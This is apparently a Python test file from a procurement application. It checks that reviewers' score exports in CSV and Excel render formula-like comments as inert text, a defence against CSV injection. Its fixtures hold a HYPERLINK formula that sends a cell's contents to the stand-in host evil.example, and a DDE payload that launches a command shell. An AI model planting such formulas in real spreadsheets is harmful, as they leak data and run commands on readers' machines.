"""The panel's scores as CSV and Excel never run a formula: a reviewer's comment or a consensus
rationale that starts with = + - @ (or a tab, a carriage return) is text in scores.xlsx and
starts with an apostrophe in scores.csv (OWASP CSV injection); numbers stay numbers."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from procure.extensions import db
from tests.support.award import finalized

COMMENT = '=HYPERLINK("http://evil.example/?"&A2,"Click for the full proposal")'
RATIONALE = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_scores_exports_write_formulas_as_text(app, login):
    with app.app_context():
        _world, panel = finalized(db.session, comment=COMMENT, rationale=RATIONALE)
        db.session.commit()
        panel_id = panel.public_id
    chair = login("officer2")
    csv_rows = list(csv.reader(io.StringIO(chair.get(
        f"/evaluation/panels/{panel_id}/scores.csv").get_data(as_text=True))))
    comments = [row[csv_rows[0].index("Comment or rationale")] for row in csv_rows[1:]]
    assert "'" + COMMENT in comments and "'" + RATIONALE in comments
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for row in csv_rows
                   for c in row)

    book = load_workbook(io.BytesIO(chair.get(
        f"/evaluation/panels/{panel_id}/scores.xlsx").data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row
             if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert COMMENT in texts and RATIONALE in texts
    points = book["Scores"]["H"][1:]
    assert points and all(c.data_type == "n" for c in points if c.value is not None)
